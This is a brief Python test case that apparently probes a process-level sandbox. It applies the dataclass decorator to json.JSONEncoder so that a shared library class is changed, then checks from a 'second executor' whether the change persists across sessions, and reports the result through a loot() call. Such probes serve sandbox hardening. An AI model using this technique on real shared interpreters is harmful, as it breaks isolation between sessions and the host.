# aim: let the dataclass decorator rewrite a library class
# mechanism: the decorator sets methods on the class it is given
# language: builtins
# reason: library classes are shared by every session and by the host
# jail: process
# plain: loot

import dataclasses
import json

dataclasses.dataclass(json.JSONEncoder)
# --- second executor
import json

if dataclasses_like := [name for name in dir(json.JSONEncoder) if "dataclass" in name]:
    loot(f"mutated: json.JSONEncoder now has {dataclasses_like}")
